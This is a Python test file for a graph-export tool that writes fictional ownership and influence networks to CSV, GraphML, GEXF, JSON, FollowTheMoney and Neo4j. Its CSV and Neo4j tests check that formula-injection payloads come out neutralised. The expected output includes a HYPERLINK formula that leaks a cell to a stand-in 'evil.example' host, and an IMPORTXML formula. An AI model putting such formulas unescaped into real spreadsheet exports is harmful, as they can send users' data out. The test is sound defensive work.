"""Exports: CSV, GraphML, GEXF, node-link JSON, FollowTheMoney and Neo4j, each read back."""

from __future__ import annotations

import copy
import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
from click.testing import CliRunner
from conftest import FIXTURES_PATH, MINI_PATH
from hypothesis import given
from hypothesis import strategies as st

from tracker.cli import cli
from tracker.dataset import load
from tracker.dates import earliest, latest
from tracker.export import (
    FORMATS,
    export_bytes,
    export_graph,
    ftm_lines,
    gexf_bytes,
    graphml_bytes,
    node_link_json,
    safe_cell,
    write_build_exports,
    write_csv,
    write_neo4j,
)
from tracker.export.common import FORMULA_TRIGGERS
from tracker.export.graphs import interchange_graph
from tracker.export.tables import EDGE_COLUMNS, NODE_COLUMNS, NUMERIC_COLUMNS, nodes_csv
from tracker.graph import build

HOSTILE_PATH = FIXTURES_PATH / "export" / "hostile"


@pytest.fixture(scope="module")
def hostile_graph() -> nx.MultiDiGraph:
    return build(load([HOSTILE_PATH]))


def read_csv(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.DictReader(fh))


def is_inert(value: str) -> bool:
    """A spreadsheet would not evaluate this cell as a formula."""
    return value.startswith("'") or not value.lstrip(" \n\r\t").startswith(FORMULA_TRIGGERS)


# --- safe_cell ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-claim", "'-claim"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\n@x", "'\n@x"),
        ("＝1+1", "'＝1+1"),
        ("Alpha Ruler", "Alpha Ruler"),
        ("Құлыбаев", "Құлыбаев"),
        ("a=b", "a=b"),
        ("2007-12", "2007-12"),
        ("", ""),
    ],
)
def test_safe_cell(value: str, expected: str) -> None:
    assert safe_cell(value) == expected


@given(st.text(max_size=40))
def test_any_text_comes_back_from_the_csv_inert_and_whole(value: str) -> None:
    G = nx.MultiDiGraph()
    G.add_node("a", name=value, aliases=[value, "x"])
    rows = list(csv.DictReader(io.StringIO(nodes_csv(G), newline="")))
    assert len(rows) == 1
    assert rows[0]["name"] == safe_cell(value)
    assert is_inert(rows[0]["name"]) and is_inert(rows[0]["aliases"])
    assert rows[0]["name"] in (value, "'" + value)


# --- CSV ------------------------------------------------------------------------------------


def test_csv_tables_of_the_mini_graph(mini_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    paths = write_csv(mini_graph, tmp_path)
    assert [p.name for p in paths] == ["nodes.csv", "edges.csv", "sources.csv"]
    nodes = read_csv(tmp_path / "nodes.csv")
    edges = read_csv(tmp_path / "edges.csv")
    sources = read_csv(tmp_path / "sources.csv")
    assert list(nodes[0])[: len(NODE_COLUMNS)] == list(NODE_COLUMNS)
    assert list(edges[0])[: len(EDGE_COLUMNS)] == list(EDGE_COLUMNS)
    assert [n["id"] for n in nodes] == sorted(mini_graph.nodes)
    assert [e["id"] for e in edges] == sorted(k for _, _, k in mini_graph.edges(keys=True))
    assert {s["id"] for s in sources} == set(mini_graph.graph["sources"])
    by_id = {e["id"]: e for e in edges}
    # Every edge travels with its sources: ids, URLs and a readable citation.
    for e in edges:
        assert e["sources"] and e["citations"] and e["source_urls"].startswith("http"), e["id"]
        assert e["evidence"], e["id"]
    r05 = by_id["r05"]
    assert (r05["source_name"], r05["target_name"], r05["share_min"], r05["share_max"]) == (
        "Gamma Qulybaev",
        "Delta Holdings Ltd",
        "25",
        "50",
    )
    assert r05["citations"] == "Son-in-law buys London house — Example News, 2007-09 <https://news.example.com/story>"
    assert by_id["r12"]["referred_by"] == "r13" and by_id["r12"]["outcome"] == "unproven"
    assert by_id["r13"]["refers_to"] == "r12"
    assert by_id["r16"]["amount"] == "15000000"
    assert by_id["r14"]["score"] == "70.5"
    alpha = next(n for n in nodes if n["id"] == "alpha-ruler")
    assert alpha["aliases"] == "Альфа Правитель;Alfa Pravitel"
    assert alpha["offshore"] == "" and alpha["placeholder"] == "false"
    assert "None" not in (tmp_path / "edges.csv").read_text(encoding="utf-8")


def test_csv_sources_are_those_cited_unless_all(mini_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    H = mini_graph.edge_subgraph([("gamma-soninlaw", "alpha-ruler", "r12")]).copy()
    write_csv(H, tmp_path / "cited")
    write_csv(H, tmp_path / "all", all_sources=True)
    assert [s["id"] for s in read_csv(tmp_path / "cited" / "sources.csv")] == ["claim-2010"]
    assert len(read_csv(tmp_path / "all" / "sources.csv")) == len(mini_graph.graph["sources"])


def test_hostile_cells_come_out_inert_in_csv(hostile_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    write_csv(hostile_graph, tmp_path)
    checked = 0
    for name in ("nodes.csv", "edges.csv", "sources.csv"):
        for row in read_csv(tmp_path / name):
            for column, value in row.items():
                if column in NUMERIC_COLUMNS and value:
                    float(value)  # a number, written as a number
                    continue
                assert is_inert(value), f"{name} {row['id']} {column}: {value!r}"
                checked += 1
    assert checked > 100
    nodes = {n["id"]: n for n in read_csv(tmp_path / "nodes.csv")}
    assert nodes["h-formula"]["name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert nodes["h-minus"]["name"].startswith("'-2+3")
    assert nodes["h-at"]["aliases"] == "Кириллица;=Кириллица"  # not at the start: harmless
    assert nodes["h-minus"]["notes"] == "'=1+1 after spaces"  # the reader strips the spaces
    assert nodes["h-fullwidth"]["name"] == "'＝1+1"
    assert nodes["h-plain"]["name"] == "Plain Name Ltd"
    assert nodes["h-at"]["notes"] == 'Notes, with a comma and "quotes"\nand a second line'
    edges = {e["id"]: e for e in read_csv(tmp_path / "edges.csv")}
    assert edges["r1"]["role"] == "'=1+1" and edges["r1"]["note"] == "'-note" and edges["r1"]["record_id"] == "'@rec"
    assert edges["r3"]["amount"] == "-5"  # numeric column: a plain number, by design
    assert edges["r1"]["citations"].startswith("'=IMPORTXML")
    sources = {s["id"]: s for s in read_csv(tmp_path / "sources.csv")}
    assert sources["src-evil"]["publisher"] == "'@Publisher"


def test_csv_bom(mini_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    write_csv(mini_graph, tmp_path / "bom", bom=True)
    write_csv(mini_graph, tmp_path / "plain")
    for name in ("nodes.csv", "edges.csv", "sources.csv"):
        assert (tmp_path / "bom" / name).read_bytes().startswith(b"\xef\xbb\xbfid,")
        assert (tmp_path / "plain" / name).read_bytes().startswith(b"id,")
    nodes = read_csv(tmp_path / "bom" / "nodes.csv", encoding="utf-8-sig")
    assert list(nodes[0])[0] == "id"
    assert "Бета Правителева" in next(n for n in nodes if n["id"] == "beta-daughter")["aliases"]


# --- GraphML and GEXF -----------------------------------------------------------------------


def expected_flat(value: Any) -> Any:
    """GraphML's and GEXF's flattening written out here, independently of the exporter: numbers and
    booleans stay typed, lists are joined with ";" without their empty items, an empty value is absent."""
    if value is None or isinstance(value, (bool, int, float)):
        return value
    if isinstance(value, list):
        return ";".join(str(v) for v in value if v is not None and str(v) != "") or None
    return str(value) or None


def assert_same_attributes(canonical: dict[str, Any], read: dict[str, Any], skip: set[str] = frozenset()) -> None:  # type: ignore[assignment]
    for key, value in canonical.items():
        if key in skip:
            continue
        flat = expected_flat(value)
        if flat is None:
            assert key not in read, (key, read.get(key))
        else:
            assert read.get(key) == flat, (key, read.get(key), flat)
            assert type(read[key]) is type(flat), (key, type(read[key]), type(flat))


def test_graphml_round_trip(mini_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    path = tmp_path / "g.graphml"
    path.write_bytes(graphml_bytes(mini_graph))
    text = path.read_text(encoding="utf-8")
    assert ">None<" not in text and "[" not in text.split("<graph", 1)[1].split("citations")[0]
    H = nx.read_graphml(path, force_multigraph=True, edge_key_type=str)
    assert H.number_of_nodes() == mini_graph.number_of_nodes()
    assert H.number_of_edges() == mini_graph.number_of_edges()
    assert H.graph["content_hash"] == mini_graph.graph["content_hash"]
    for node, data in mini_graph.nodes(data=True):
        assert_same_attributes(data, H.nodes[node])
        assert H.nodes[node]["label"] == data["name"]
    for u, v, key, data in mini_graph.edges(keys=True, data=True):
        read = H.edges[u, v, key]
        assert_same_attributes(data, read)
    # The citation cell, spelt out from tests/fixtures/mini/sources.csv (title — publisher, date <url>).
    assert H.edges["alpha-ruler", "beta-daughter", "r01"]["citations"] == (
        "Kappa v Theta [2020] judgment — Example Law Reports, 2020-04-08 <https://example.org/judgment>"
    )
    assert (
        H.edges["delta-holdings", "vg", "r09"]["citations"]
        == "Son-in-law buys London house — Example News, 2007-09 <https://news.example.com/story>"
    )
    # Typed keys: floats as double, booleans as boolean.
    root = ET.fromstring(path.read_bytes())
    keys = {(k.get("for"), k.get("attr.name")): k.get("attr.type") for k in root.iter("{http://graphml.graphdrawing.org/xmlns}key")}
    assert keys[("edge", "share")] == "double"
    assert keys[("edge", "directed")] == "boolean"
    assert keys[("node", "offshore")] == "boolean"
    assert keys[("node", "aliases")] == "string"


def test_gexf_round_trip_and_timeline(mini_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    path = tmp_path / "g.gexf"
    path.write_bytes(gexf_bytes(mini_graph))
    H = nx.read_gexf(path)  # a DiGraph when no two relations share both ends; the GEXF edge id is the relation id
    assert H.graph["mode"] == "dynamic"
    assert H.number_of_nodes() == mini_graph.number_of_nodes()
    read_edges = {d["id"]: (u, v, d) for u, v, d in H.edges(data=True)}
    assert sorted(read_edges) == sorted(k for _, _, k in mini_graph.edges(keys=True))
    for node, data in mini_graph.nodes(data=True):
        assert_same_attributes(data, H.nodes[node])
        assert H.nodes[node]["label"] == data["name"]
    for u, v, key, data in mini_graph.edges(keys=True, data=True):
        ru, rv, read = read_edges[key]
        assert (ru, rv) == (u, v)
        assert_same_attributes(data, read, skip={"start", "end"})
        assert read.get("start") == (earliest(data["start"]).isoformat() if data["start"] else None), key
        assert read.get("end") == (latest(data["end"]).isoformat() if data["end"] else None), key
        assert read.get("start_text") == (data["start"] or None)
        assert "networkx_key" not in read
    assert read_edges["r05"][2]["start"] == "2006-01-01"
    assert read_edges["r08"][2]["end"] == "2020-12-31"
    root = ET.fromstring(path.read_bytes())
    ns = {"g": "http://www.gexf.net/1.2draft"}
    graph = root.find("g:graph", ns)
    assert graph is not None and graph.get("mode") == "dynamic" and graph.get("timeformat") == "date"
    meta = root.find("g:meta", ns)
    assert meta is not None and meta.get("lastmodifieddate") == "2022-12-31"  # from data_date "2022", not the clock
    types = {a.get("title"): a.get("type") for a in root.iter("{http://www.gexf.net/1.2draft}attribute")}
    assert types["share"] == "double" and types["directed"] == "boolean" and "networkx_key" not in types
    assert b"None" not in path.read_bytes()


def test_parallel_relations_keep_their_ids(mini_graph: nx.MultiDiGraph) -> None:
    G = mini_graph.copy()
    G.add_edge("gamma-soninlaw", "delta-holdings", key="r05b", **{**G.edges["gamma-soninlaw", "delta-holdings", "r05"], "start": "2009"})
    for read in (
        nx.read_gexf(io.BytesIO(gexf_bytes(G))),
        nx.read_graphml(io.BytesIO(graphml_bytes(G)), force_multigraph=True, edge_key_type=str),
    ):
        assert isinstance(read, nx.MultiDiGraph)
        assert sorted(read["gamma-soninlaw"]["delta-holdings"]) == ["r05", "r05b"]
        assert read.number_of_edges() == G.number_of_edges()


def test_gexf_without_dates_is_static(mini_graph: nx.MultiDiGraph) -> None:
    H = mini_graph.edge_subgraph([("alpha-ruler", "beta-daughter", "r01")]).copy()
    root = ET.fromstring(gexf_bytes(H))
    graph = root.find("{http://www.gexf.net/1.2draft}graph")
    assert graph is not None and graph.get("mode") == "static"


def test_interchange_graph_unifies_types_and_drops_empties() -> None:
    G = nx.MultiDiGraph(name="t", sources={})
    G.add_node("a", name="A", score=1, tags=[], note=None, flag=True, blank="")
    G.add_node("b", name="B", score=2.5, tags=["x", "y"], flag="maybe")
    H = interchange_graph(G)
    assert H.nodes["a"] == {"name": "A", "label": "A", "score": 1.0, "flag": "true"}
    assert H.nodes["b"] == {"name": "B", "label": "B", "score": 2.5, "tags": "x;y", "flag": "maybe"}
    nx.read_graphml(io.BytesIO(graphml_bytes(G)))  # one type per attribute: readable
    assert G.nodes["a"]["tags"] == []  # the original is untouched


# --- node-link JSON ---------------------------------------------------------------------------


def test_json_round_trip(mini_graph: nx.MultiDiGraph) -> None:
    data = json.loads(node_link_json(mini_graph))
    H = nx.node_link_graph(data, edges="edges")
    assert isinstance(H, nx.MultiDiGraph)
    assert dict(H.nodes(data=True)) == dict(mini_graph.nodes(data=True))
    assert {(u, v, k): d for u, v, k, d in H.edges(keys=True, data=True)} == {
        (u, v, k): d for u, v, k, d in mini_graph.edges(keys=True, data=True)
    }
    assert H.graph["sources"] == mini_graph.graph["sources"]
    assert H.graph["content_hash"] == mini_graph.graph["content_hash"]
    assert [e["key"] for e in data["edges"]] == sorted(e["key"] for e in data["edges"])


# --- FollowTheMoney ---------------------------------------------------------------------------


def ftm_records(G: nx.MultiDiGraph) -> list[dict[str, Any]]:
    return [json.loads(line) for line in ftm_lines(G).splitlines()]


@pytest.mark.parametrize("which", ["mini", "hostile", "small"])
def test_ftm_entities_are_valid_and_linked(which: str, mini_graph: nx.MultiDiGraph, hostile_graph: nx.MultiDiGraph) -> None:
    from followthemoney import model

    G = {"mini": mini_graph, "hostile": hostile_graph, "small": small_graph()}[which]
    records = ftm_records(G)
    assert len(records) == G.number_of_nodes() + G.number_of_edges()
    ids = [r["id"] for r in records]
    assert len(set(ids)) == len(ids)
    exported = set(ids)
    relations = 0
    for data in records:
        proxy = model.get_proxy(data, cleaned=False)  # re-clean everything, as for untrusted input
        assert proxy.id == data["id"]
        assert proxy.to_dict()["properties"] == data["properties"], data["id"]  # cleaning changes nothing
        assert proxy.schema.validate(data) is None
        for required in proxy.schema.required:
            assert proxy.has(required), (data["id"], required)
        for prop in proxy.iterprops():
            if prop.type.name == "entity":
                for ref in proxy.get(prop):
                    assert ref in exported, (data["id"], prop.name, ref)
                    target = next(r for r in records if r["id"] == ref)
                    assert model.get(target["schema"]).is_a(prop.range), (data["id"], prop.name)
        if proxy.schema.is_a("Interval"):
            relations += 1
            assert proxy.get("sourceUrl") and proxy.get("publisher"), data["id"]
    assert relations == G.number_of_edges()


def test_ftm_cli_validate_accepts_the_export(mini_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    from followthemoney.cli.cli import cli as ftm_cli

    source = tmp_path / "mini.ftm.json"
    source.write_text(ftm_lines(mini_graph), encoding="utf-8")
    result = CliRunner().invoke(ftm_cli, ["validate", "-i", str(source), "-o", str(tmp_path / "out.json")])
    assert result.exit_code == 0, result.output
    ours = [json.loads(line) for line in source.read_text(encoding="utf-8").splitlines()]
    theirs = [json.loads(line) for line in (tmp_path / "out.json").read_text(encoding="utf-8").splitlines()]
    assert [(r["id"], r["schema"], r["properties"]) for r in theirs] == [(r["id"], r["schema"], r["properties"]) for r in ours]


def test_ftm_mapping_of_the_mini_graph(mini_graph: nx.MultiDiGraph) -> None:
    by_id = {r["id"]: r for r in ftm_records(mini_graph)}
    assert by_id["trk-e-alpha-ruler"]["schema"] == "Person"
    assert by_id["trk-e-alpha-ruler"]["properties"]["alias"] == ["Альфа Правитель", "Alfa Pravitel"]
    assert by_id["trk-e-alpha-ruler"]["properties"]["topics"] == ["role.pep"]
    assert by_id["trk-e-zeta-bank"]["schema"] == "Company"
    assert by_id["trk-e-vg"]["schema"] == "Address"
    assert by_id["trk-e-delta-holdings"]["properties"]["jurisdiction"] == ["vg"]
    assert by_id["trk-e-iota-house"]["schema"] == "RealEstate"
    family = by_id["trk-r-r01"]
    assert family["schema"] == "Family"
    assert family["properties"]["person"] == ["trk-e-alpha-ruler"] and family["properties"]["relative"] == ["trk-e-beta-daughter"]
    assert family["properties"]["relationship"] == ["parent"]
    own = by_id["trk-r-r05"]["properties"]
    assert by_id["trk-r-r05"]["schema"] == "Ownership"
    assert (own["owner"], own["asset"], own["percentage"], own["startDate"]) == (
        ["trk-e-gamma-soninlaw"], ["trk-e-delta-holdings"], ["25-50"], ["2006"]
    )  # fmt: skip
    assert own["sourceUrl"] == ["https://news.example.com/story"] and own["publisher"] == ["Example News"]
    assert by_id["trk-r-r04"]["properties"]["ownershipType"] == ["registered"]
    # A trust is an FtM Organization, not an Asset: the ownership falls back to UnknownLink.
    trust = by_id["trk-r-r03"]
    assert trust["schema"] == "UnknownLink"
    assert trust["properties"]["role"] == ["beneficial owner of: beneficial owner"]
    assert "share: 100%" in trust["properties"]["summary"][0]
    d = by_id["trk-r-r18"]
    assert d["schema"] == "Directorship" and d["properties"]["director"] == ["trk-e-gamma-soninlaw"]
    assert by_id["trk-r-r08"]["schema"] == "Representation"
    pay = by_id["trk-r-r16"]["properties"]
    assert by_id["trk-r-r16"]["schema"] == "Payment"
    assert (pay["payer"], pay["beneficiary"], pay["amount"], pay["currency"]) == (
        ["trk-e-gamma-soninlaw"], ["trk-e-mu-vehicles"], ["15000000"], ["GBP"]
    )  # fmt: skip
    claim = by_id["trk-r-r12"]["properties"]
    assert "evidence: Allegation" in claim["summary"][0] and "answered by: trk-r-r13" in claim["summary"][0]
    assert by_id["trk-r-r09"]["properties"]["object"] == ["trk-e-vg"]


def small_graph() -> nx.MultiDiGraph:
    """Relation kinds the mini dataset lacks: sanction, debt, employment, association, location."""
    G = nx.MultiDiGraph(sources={"s": {"title": "T", "publisher": "P", "date": "2021", "url": "https://s.example/1"}})
    people = {"p1": "person", "p2": "person", "bank": "financial_institution", "co": "company", "gov": "public_body", "gb": "jurisdiction"}
    for node, kind in people.items():
        G.add_node(node, kind=kind, name=node.upper(), sphere="other", aliases=[], topics=[], country="gb" if node == "gb" else "")
    base = {"sources": ["s"], "evidence": "news_report", "role": "", "start": "", "end": "", "refers_to": [], "referred_by": []}
    G.add_edge("p1", "gov", key="e1", **{**base, "kind": "sanctioned_by", "role": "asset freeze"})
    G.add_edge("bank", "co", key="e2", **{**base, "kind": "financed", "amount": 5e6, "currency": "USD"})
    G.add_edge("p1", "co", key="e3", **{**base, "kind": "employed_by", "role": "adviser"})
    G.add_edge("p1", "p2", key="e4", **{**base, "kind": "associate", "role": "business partner"})
    G.add_edge("p2", "gb", key="e5", **{**base, "kind": "located_in", "role": "resident"})
    G.add_edge("gb", "co", key="e6", **{**base, "kind": "owns", "share": 1.0})  # not a valid FtM owner
    return G


def test_ftm_mapping_of_other_relation_kinds() -> None:
    by_id = {r["id"]: r for r in ftm_records(small_graph())}
    sanction = by_id["trk-r-e1"]
    assert sanction["schema"] == "Sanction"
    assert sanction["properties"]["entity"] == ["trk-e-p1"] and sanction["properties"]["authority"] == ["GOV"]
    assert sanction["properties"]["provisions"] == ["asset freeze"]
    debt = by_id["trk-r-e2"]["properties"]
    assert by_id["trk-r-e2"]["schema"] == "Debt"
    assert (debt["creditor"], debt["debtor"], debt["amount"], debt["currency"]) == (["trk-e-bank"], ["trk-e-co"], ["5000000"], ["USD"])
    job = by_id["trk-r-e3"]["properties"]
    assert by_id["trk-r-e3"]["schema"] == "Employment" and (job["employee"], job["employer"]) == (["trk-e-p1"], ["trk-e-co"])
    assert by_id["trk-r-e4"]["schema"] == "Associate" and by_id["trk-r-e4"]["properties"]["relationship"] == ["business partner"]
    assert by_id["trk-r-e5"]["schema"] == "UnknownLink" and by_id["trk-r-e5"]["properties"]["role"] == ["located in: resident"]
    assert by_id["trk-e-p2"]["properties"]["country"] == ["gb"]
    assert by_id["trk-r-e6"]["schema"] == "UnknownLink"  # a jurisdiction (Address) cannot own in FtM
    for record in by_id.values():
        if record["id"].startswith("trk-r-"):
            assert record["properties"]["sourceUrl"] == ["https://s.example/1"] and record["properties"]["publisher"] == ["P"]


def test_ftm_sold_to_reverses_the_payment(hostile_graph: nx.MultiDiGraph) -> None:
    pay = {r["id"]: r for r in ftm_records(hostile_graph)}["trk-r-r3"]
    assert pay["schema"] == "Payment"
    assert pay["properties"]["payer"] == ["trk-e-h-at"] and pay["properties"]["beneficiary"] == ["trk-e-h-minus"]


def test_ftm_ids_are_valid_for_any_of_our_ids() -> None:
    from followthemoney.types import registry

    from tracker.export.ftm import ftm_id

    for our in ["alpha", "gb-coh:0001", "a_b", "x" * 200, "a.b-c", "9"]:
        made = ftm_id("trk-e-", our)
        assert registry.entity.validate(made) and len(made) <= 200, made
    assert ftm_id("trk-e-", "a_b") != ftm_id("trk-e-", "a:b")


# --- Neo4j -----------------------------------------------------------------------------------


def test_neo4j_files(mini_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    paths = write_neo4j(mini_graph, tmp_path)
    assert [p.name for p in paths] == ["nodes.csv", "relationships.csv", "import.cypher", "README.txt"]
    nodes = read_csv(tmp_path / "nodes.csv")
    rels = read_csv(tmp_path / "relationships.csv")
    assert list(nodes[0])[:3] == ["id:ID", ":LABEL", "name"]
    assert "aliases:string[]" in nodes[0] and "offshore:boolean" in nodes[0]
    assert list(rels[0])[:3] == [":START_ID", ":END_ID", ":TYPE"]
    assert "share:double" in rels[0]
    assert len(nodes) == mini_graph.number_of_nodes() and len(rels) == mini_graph.number_of_edges()
    bank = next(n for n in nodes if n["id:ID"] == "zeta-bank")
    assert bank[":LABEL"] == "Entity;FinancialInstitution"
    r06 = next(r for r in rels if r["id"] == "r06")
    assert (r06[":START_ID"], r06[":END_ID"], r06[":TYPE"], r06["share:double"]) == ("delta-holdings", "epsilon-mining", "OWNS", "20")
    assert r06["citations"] and r06["source_urls:string[]"] == "https://filings.example.com/ipo"
    node_ids = {n["id:ID"] for n in nodes}
    assert all(r[":START_ID"] in node_ids and r[":END_ID"] in node_ids for r in rels)
    cypher = (tmp_path / "import.cypher").read_text(encoding="utf-8")
    types = sorted({r[":TYPE"] for r in rels})
    for rel_type in types:
        assert f"MERGE (a)-[r:{rel_type} {{id: row.id}}]->(b)" in cypher
    assert cypher.count("LOAD CSV WITH HEADERS") == 1 + len({n["kind"] for n in nodes}) + len(types)
    assert "SET n:FinancialInstitution" in cypher and "CALL apoc" not in cypher
    assert "toFloat(row.`share:double`)" in cypher
    readme = (tmp_path / "README.txt").read_text(encoding="utf-8")
    assert "neo4j-admin database import" in readme and "cypher-shell" in readme


def test_hostile_cells_come_out_inert_in_neo4j(hostile_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    write_neo4j(hostile_graph, tmp_path)
    for name in ("nodes.csv", "relationships.csv"):
        for row in read_csv(tmp_path / name):
            for column, value in row.items():
                if column.endswith(":double") and value:
                    float(value)
                    continue
                assert is_inert(value), (name, column, value)
                if column.endswith("[]"):
                    assert all(is_inert(item) for item in value.split(";")), (name, column, value)
    rels = {r["id"]: r for r in read_csv(tmp_path / "relationships.csv")}
    assert rels["r1"]["role"] == "'=1+1" and rels["r3"]["amount:double"] == "-5"


# --- every format -----------------------------------------------------------------------------


def test_exports_are_deterministic_and_leave_the_graph_alone(mini_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    before = copy.deepcopy((dict(mini_graph.graph), list(mini_graph.nodes(data=True)), list(mini_graph.edges(keys=True, data=True))))
    for run in ("one", "two"):
        for fmt in FORMATS:
            export_graph(mini_graph, fmt, tmp_path / run / fmt)
        write_build_exports(mini_graph, tmp_path / run / "build")
    after = (dict(mini_graph.graph), list(mini_graph.nodes(data=True)), list(mini_graph.edges(keys=True, data=True)))
    assert after == before
    one = sorted(p.relative_to(tmp_path / "one") for p in (tmp_path / "one").rglob("*") if p.is_file())
    two = sorted(p.relative_to(tmp_path / "two") for p in (tmp_path / "two").rglob("*") if p.is_file())
    assert one == two and len(one) == 4 + 3 + 4 + 5
    for rel in one:
        assert (tmp_path / "one" / rel).read_bytes() == (tmp_path / "two" / rel).read_bytes(), rel


def test_a_rebuilt_graph_exports_the_same_bytes(mini_dataset: Any) -> None:
    first, second = build(mini_dataset), build(load([MINI_PATH]))
    for fmt in ("graphml", "gexf", "json", "ftm"):
        assert export_bytes(first, fmt) == export_bytes(second, fmt), fmt


def test_write_build_exports(mini_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    paths = write_build_exports(mini_graph, tmp_path)
    assert [p.name for p in paths] == ["graph.graphml", "graph.json", "nodes.csv", "edges.csv", "sources.csv"]
    assert all(p.parent == tmp_path and p.stat().st_size > 0 for p in paths)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary files left
    H = nx.read_graphml(tmp_path / "graph.graphml", force_multigraph=True, edge_key_type=str)
    assert H.number_of_edges() == mini_graph.number_of_edges()


def test_folder_format_refuses_a_file(mini_graph: nx.MultiDiGraph, tmp_path: Path) -> None:
    from tracker.exc import OutputError

    target = tmp_path / "a-file"
    target.write_text("x")
    with pytest.raises(OutputError, match="expected a folder"):
        export_graph(mini_graph, "csv", target)


# --- CLI --------------------------------------------------------------------------------------


def run(cli_runner: CliRunner, *args: str) -> Any:
    return cli_runner.invoke(cli, ["export", "--data", str(MINI_PATH), *args])


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_cli_writes_each_format(cli_runner: CliRunner, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / ("folder" if fmt in ("csv", "neo4j") else f"graph.{fmt}")
    result = run(cli_runner, "--format", fmt, "-o", str(out))
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert "wrote" in result.stderr and "14 entities, 18 relations" in result.stderr
    assert out.exists()
    if fmt == "csv":
        assert sorted(p.name for p in out.iterdir()) == ["edges.csv", "nodes.csv", "sources.csv"]
    elif fmt == "neo4j":
        assert sorted(p.name for p in out.iterdir()) == ["README.txt", "import.cypher", "nodes.csv", "relationships.csv"]
    else:
        assert out.stat().st_size > 1000


@pytest.mark.parametrize("fmt", ["json", "ftm", "graphml", "gexf"])
def test_cli_stdout(cli_runner: CliRunner, mini_graph: nx.MultiDiGraph, fmt: str) -> None:
    result = run(cli_runner, "--format", fmt, "-o", "-")
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes == export_bytes(mini_graph, fmt)
    default = run(cli_runner, "--format", fmt)
    assert default.exit_code == 0 and default.stdout_bytes == result.stdout_bytes


def test_cli_filters_reduce_the_export(cli_runner: CliRunner) -> None:
    result = run(cli_runner, "--format", "json", "--sphere", "elite")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert sorted(n["id"] for n in data["nodes"]) == ["alpha-ruler", "beta-daughter", "gamma-soninlaw"]
    assert sorted(e["key"] for e in data["edges"]) == ["r01", "r02", "r12", "r13"]
    assert set(data["graph"]["sources"]) == {"judgment-2020", "news-2007", "claim-2010"}
    focus = run(cli_runner, "--format", "ftm", "--focus", "Бета Правителева", "--depth", "1")
    assert focus.exit_code == 0, focus.output
    ids = {json.loads(line)["id"] for line in focus.stdout.splitlines()}
    assert "trk-e-beta-daughter" in ids and "trk-e-eta-law" in ids and "trk-e-zeta-bank" not in ids


def test_cli_csv_bom(cli_runner: CliRunner, tmp_path: Path) -> None:
    result = run(cli_runner, "--format", "csv", "-o", str(tmp_path), "--bom", "--all-sources")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "nodes.csv").read_bytes()[:3] == b"\xef\xbb\xbf"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--format", "csv"], "Error: --format csv writes a folder of files: give it with -o FOLDER"),
        (["--format", "neo4j", "-o", "-"], "Error: --format neo4j writes a folder of files: give it with -o FOLDER"),
        (["--format", "gexf", "--bom"], "Error: --bom applies only to --format csv"),
        (["--format", "ftm", "--all-sources"], "Error: --all-sources applies only to --format csv and json"),
        (["--format", "xls"], "Error: Invalid value for '-f' / '--format': 'xls' is not one of"),
        (["--format", "json", "--sphere", "moon"], "Error: Invalid value for --sphere: 'moon' is not one of"),
    ],
)
def test_cli_usage_errors(cli_runner: CliRunner, args: list[str], message: str) -> None:
    result = run(cli_runner, *args)
    assert result.exit_code == 2, result.output
    assert message in result.stderr
    assert result.stdout == ""


def test_cli_errors_exit_1(cli_runner: CliRunner, tmp_path: Path) -> None:
    unknown = run(cli_runner, "--format", "json", "--focus", "nobody-at-all")
    assert unknown.exit_code == 1 and unknown.stderr.startswith("Error: ")
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    result = run(cli_runner, "--format", "csv", "-o", str(a_file))
    assert result.exit_code == 1
    assert result.stderr == f"Error: {a_file}: is a file, expected a folder for --format csv\n"
    over_input = run(cli_runner, "--format", "json", "-o", str(MINI_PATH / "entities.csv"))
    assert over_input.exit_code == 1 and "refusing to write over an input" in over_input.stderr
